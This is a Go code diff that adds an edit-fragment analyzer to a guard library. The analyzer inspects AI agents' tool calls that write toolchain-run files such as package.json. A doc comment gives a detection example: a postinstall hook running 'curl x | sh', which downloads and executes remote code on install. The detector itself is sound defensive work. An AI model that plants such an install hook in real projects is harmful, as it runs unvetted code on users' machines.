@@ -60,6 +60,23 @@ func (l *Lib) Toolchain() cel.EnvOption {
 //
 // Introduced in stdlib version 4.
 //
+// # toolchain.analyzeEdit
+//
+// toolchain.analyze for a part of the file: an edit's new text or a patch's
+// added lines (a toolchain.files element whose edit is true). A fragment
+// of a structured file (a line of package.json) seldom parses alone; when
+// it does not, it is read as text, and only a fragment that names a risky
+// program (a shell, a download, a pipe, an encoded payload) is unproven.
+//
+//	toolchain.analyzeEdit(<string>, <string>) -> <celguard.toolchain.Analysis>
+//
+// Examples:
+//
+//	toolchain.analyzeEdit("package.json", "\"lint\": \"eslint .\",").unproven          // []
+//	toolchain.analyzeEdit("package.json", "\"postinstall\": \"curl x | sh\",").unproven.size() > 0 // true
+//
+// Introduced in stdlib version 4.
+//
 // # toolchain.files
 //
 // The files a tool call's arguments write that a toolchain runs, each with
@@ -106,6 +123,18 @@ func (l *Lib) toolchainFns() []*fnDef {
 				return analysisVal(toolchain.Analyze(string(ps), string(cs)))
 			},
 		}}},
+		{ns: "toolchain", name: "toolchain.analyzeEdit", version: 4, ovs: []*ovDef{{
+			id: "toolchain_analyzeEdit_string_string", args: []*cel.Type{cel.StringType, cel.StringType}, result: analysisType,
+			cost: costModel{base: 20, arg: 1, perUnit: 1, arg2: 0, perUnit2: 0.2}.withSize(sumSize(64)),
+			binary: func(p, c ref.Val) ref.Val {
+				ps, ok1 := p.(types.String)
+				cs, ok2 := c.(types.String)
+				if !ok1 || !ok2 {
+					return types.MaybeNoSuchOverloadErr(p)
+				}
+				return analysisVal(toolchain.AnalyzeEdit(string(ps), string(cs)))
+			},
+		}}},
 		{ns: "toolchain", name: "toolchain.files", version: 4, ovs: []*ovDef{{
 			id: "toolchain_files_map", args: []*cel.Type{cel.MapType(cel.StringType, cel.DynType)}, result: cel.ListType(fileType),
 			cost: linearCost(10, 0, 2).withSize(func(args []cost.SizeEstimate) cost.SizeEstimate {
@@ -119,8 +148,8 @@ func (l *Lib) toolchainFns() []*fnDef {
 				files := writtenFiles(m)
 				out := make([]ref.Val, 0, len(files))
 				for _, f := range files {
-					if toolchain.Runs(f[0]) {
-						out = append(out, newObj(toolchainFileType, toolchainFileKeys, types.String(f[0]), types.String(f[1])))
+					if toolchain.Runs(f.path) {
+						out = append(out, newObj(toolchainFileType, toolchainFileKeys, types.String(f.path), types.String(f.content), types.Bool(f.edit)))
 					}
 				}
 				return types.NewRefValList(adapter, out)
@@ -143,36 +172,56 @@ var (
 	writePatchKeys   = []string{"input", "patch", "diff", "command"}
 )
 
-// writtenFiles returns the (path, content) pairs a call's arguments write.
-func writtenFiles(m traits.Mapper) [][2]string {
-	var out [][2]string
-	p := firstString(m, writePathKeys)
-	if p != "" {
+// writtenFile is one file a call writes: its path, the content written,
+// and whether that content is a part of the file (an edit, a patch).
+type writtenFile struct {
+	path, content string
+	edit          bool
+}
+
+// Argument names that carry a whole file's content.
+var wholeContentKeys = map[string]bool{"content": true, "file_text": true, "contents": true, "text": true, "body": true}
+
+// writtenFiles returns the files a call's arguments write. A path without
+// any content argument (a read, a delete) writes nothing.
+func writtenFiles(m traits.Mapper) []writtenFile {
+	var out []writtenFile
+	if p := firstString(m, writePathKeys); p != "" {
 		var content strings.Builder
-		if c := firstString(m, writeContentKeys); c != "" {
-			content.WriteString(c)
+		found, edit := false, false
+		for _, k := range writeContentKeys {
+			if s, ok := field(m, k).(types.String); ok {
+				content.WriteString(string(s))
+				found, edit = true, !wholeContentKeys[k]
+				break
+			}
 		}
 		if edits, ok := field(m, "edits").(traits.Lister); ok {
+			found, edit = true, true
 			forEach(edits, func(e ref.Val) {
 				if em, ok := e.(traits.Mapper); ok {
 					content.WriteString("\n" + firstString(em, writeContentKeys))
 				}
 			})
 		}
-		out = append(out, [2]string{p, content.String()})
+		if found {
+			out = append(out, writtenFile{p, content.String(), edit})
+		}
 	}
 	if files, ok := field(m, "files").(traits.Lister); ok {
 		forEach(files, func(e ref.Val) {
 			if fm, ok := e.(traits.Mapper); ok {
 				if fp := firstString(fm, writePathKeys); fp != "" {
-					out = append(out, [2]string{fp, firstString(fm, writeContentKeys)})
+					out = append(out, writtenFile{fp, firstString(fm, writeContentKeys), false})
 				}
 			}
 		})
 	}
 	for _, k := range writePatchKeys {
 		if s, ok := field(m, k).(types.String); ok && looksLikePatch(string(s)) {
-			out = append(out, patchFiles(string(s))...)
+			for _, f := range patchFiles(string(s)) {
+				out = append(out, writtenFile{f[0], f[1], true})
+			}
 		}
 	}
 	return out
